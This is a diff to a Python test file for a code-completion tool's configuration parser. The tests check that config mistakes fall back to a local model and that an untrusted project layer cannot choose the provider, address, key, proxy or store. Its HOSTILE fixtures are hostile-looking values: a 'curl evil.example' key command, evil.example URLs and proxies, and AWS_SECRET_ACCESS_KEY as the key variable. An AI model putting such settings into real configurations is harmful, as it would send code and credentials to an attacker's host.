@@ -69,6 +69,7 @@ def test_understood(toml: str, name: str, expected: object) -> None:
     assert parsed.sources == {name: "config.toml"}
 
 
+UNTIL_THEN = " The local model answers until then."
 KNOWN = ", ".join(field.name for field in dataclasses.fields(settings.TriggerSettings))
 PROVIDERS = (
     '"mistral" or "llamacpp" or "ollama" or "openai" or "deepseek" or "inception" or "local"'
@@ -175,8 +176,38 @@ PROBLEMS = {
 @pytest.mark.parametrize(("toml", "line"), PROBLEMS.values(), ids=PROBLEMS.keys())
 def test_a_mistake_is_one_readable_line_and_the_rest_applies(toml: str, line: str) -> None:
     parsed = read('api_key_env = "REST_KEY"\n' + toml)
-    assert parsed.problems == (line,)
-    assert parsed.settings == Settings(api_key_env="REST_KEY")
+    assert [told.removesuffix(UNTIL_THEN) for told in parsed.problems] == [line]
+    provider = "local" if parsed.problems[0].endswith(UNTIL_THEN) else None
+    assert parsed.settings == Settings(api_key_env="REST_KEY", provider=provider)
+
+
+DECIDING = {
+    "a provider": ('provider = "local-model"', True),
+    "an address": ('base_url = "llama.example:8080"', True),
+    "an address by another name": ('endpoint = "https://llama.example"', True),
+    "a preset": ('preset = "olama"', True),
+    "the key's variable": ("api_key_env = 3", True),
+    "the key's command": ('api_key_command = "pass show llama"', True),
+    "what must not be sent": ('[context]\nexclude = "secret.py"', True),
+    "the model": ("model = 3", False),
+    "a limit": ("[limits]\nshared_by = 0", False),
+    "a setting that is not known": ('colour = "red"', False),
+    "an address beside a right one": (
+        'base_url = "https://llama.example"\nurl = "https://other.example"',
+        False,
+    ),
+}
+
+
+@pytest.mark.parametrize(("toml", "decides"), DECIDING.values(), ids=DECIDING.keys())
+def test_a_mistake_in_what_is_sent_where_sends_nothing(
+    monkeypatch: pytest.MonkeyPatch, toml: str, *, decides: bool
+) -> None:
+    """Not even where the default's key happens to be in the environment."""
+    monkeypatch.setenv("ODEUS_API_KEY", "k")
+    parsed = read(toml)
+    assert parsed.settings.effective_provider == ("local" if decides else "mistral")
+    assert parsed.problems[0].endswith(UNTIL_THEN) == decides
 
 
 SECRETS = {
@@ -201,7 +232,7 @@ def test_a_key_in_the_wrong_place_is_never_repeated(toml: str) -> None:
     (problem,) = parsed.problems
     assert PASTED not in problem
     assert LETTERS not in problem
-    assert parsed.settings == Settings()
+    assert parsed.settings in {Settings(), Settings(provider="local")}
 
 
 @pytest.mark.parametrize("name", ["api_key", "apiKey", "api-key", "key", "token"])
@@ -236,6 +267,44 @@ def test_a_mistake_in_a_later_place_leaves_the_earlier_value() -> None:
     )
     assert parsed.settings.limits.shared_by == 2
     assert len(parsed.problems) == 1
+
+
+HOSTILE: dict[str, tuple[dict[str, Any], str]] = {
+    "the provider": ({"provider": "openai"}, "provider"),
+    "a preset": ({"preset": "deepseek"}, "preset"),
+    "the address": ({"base_url": "https://evil.example/v1"}, "base_url"),
+    "the whole address": ({"fullUrl": "https://evil.example/v1"}, "full_url"),
+    "the key's variable": ({"api-key-env": "AWS_SECRET_ACCESS_KEY"}, "api_key_env"),
+    "a command": ({"api_key_command": ["sh", "-c", "curl evil.example"]}, "api_key_command"),
+    "a header": ({"headers": ["x-host: evil.example"]}, "headers"),
+    "another endpoint beside it": ({"fallback": "deepseek"}, "fallback"),
+    "a proxy": ({"network": {"proxy": "http://evil.example:1"}}, "network"),
+    "certificates": ({"network": {"ca_bundle": "evil.pem"}}, "network"),
+    "a store of the team's": ({"limits": {"store": "redis://evil.example/0"}}, "limits.store"),
+    "a cache of the team's": ({"cache": {"store": "redis://evil.example/0"}}, "cache.store"),
+    "plain text": ({"network": {"allow_insecure": True}}, "network"),
+}
+
+
+@pytest.mark.parametrize(("table", "name"), HOSTILE.values(), ids=HOSTILE.keys())
+def test_a_project_decides_nothing_of_what_is_sent_where(table: dict[str, Any], name: str) -> None:
+    own = Layer(source="file", table={"model": "mine"})
+    parsed = parse(own, Layer(source="editor", table=table, is_trusted=False))
+    assert parsed.settings == Settings(model="mine")
+    (problem,) = parsed.problems
+    assert problem.startswith(f"editor: {name} is not taken from there")
+
+
+def test_a_project_may_only_narrow_what_is_sent() -> None:
+    own = Layer(source="file", table={"trigger": {"disabled_languages": ["markdown"]}})
+    table = {
+        "context": {"exclude": ["*.sql"], "prompt_tokens": 9_000},
+        "trigger": {"disabled_languages": ["json"]},
+    }
+    narrowed = parse(own, Layer(source="editor", table=table, is_trusted=False)).settings
+    assert narrowed.context.exclude == (*settings.EXCLUDE_BY_DEFAULT, "*.sql")
+    assert narrowed.context.prompt_tokens == Settings().context.prompt_tokens
+    assert narrowed.trigger.disabled_languages == ("markdown", "json")
 
 
 EDITORS: dict[str, tuple[object, Mapping[str, Any] | None]] = {
